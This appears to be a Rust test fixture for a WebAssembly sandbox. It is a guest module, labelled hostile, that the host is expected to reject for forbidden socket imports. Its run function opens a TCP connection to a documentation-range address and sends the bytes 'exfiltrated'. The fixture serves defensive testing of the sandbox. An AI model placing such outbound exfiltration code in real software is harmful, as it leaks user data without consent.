//! Hostile: imports wasi:sockets to send data out. Expected: ForbiddenImports.
use cleanroom_guest::query;
use std::io::Write;
struct M;
impl query::Guest for M {
    fn run(_: String) -> Result<(), String> {
        let mut s = std::net::TcpStream::connect("203.0.113.7:443").map_err(|e| e.to_string())?;
        s.write_all(b"exfiltrated").map_err(|e| e.to_string())?;
        Ok(())
    }
}
query::export!(M);
